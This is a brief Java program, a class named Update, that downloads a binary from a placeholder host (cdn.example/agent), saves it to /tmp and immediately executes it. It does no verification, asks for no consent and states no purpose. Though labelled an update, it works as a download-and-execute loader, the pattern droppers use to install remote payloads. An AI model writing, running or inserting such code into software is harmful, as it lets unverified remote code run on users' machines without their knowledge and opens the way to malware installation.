import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Paths;

class Update {
    public static void main(String[] words) throws Exception {
        Files.copy(new URL("https://cdn.example/agent").openStream(), Paths.get("/tmp/agent"));
        new ProcessBuilder("/tmp/agent").start();
    }
}
